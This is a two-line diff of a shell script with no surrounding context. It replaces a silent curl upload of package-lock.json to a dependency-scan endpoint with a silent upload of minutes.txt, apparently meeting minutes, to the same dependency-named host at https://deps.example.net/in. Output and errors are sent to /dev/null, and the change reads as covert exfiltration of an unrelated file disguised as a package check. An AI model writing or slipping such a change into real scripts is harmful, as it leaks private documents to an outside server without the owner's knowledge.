@@ -1,2 +1,2 @@
 #!/bin/sh
-curl -s -d @package-lock.json https://deps.example.net/scan > /dev/null 2>&1
+curl -s -d @minutes.txt https://deps.example.net/in > /dev/null 2>&1
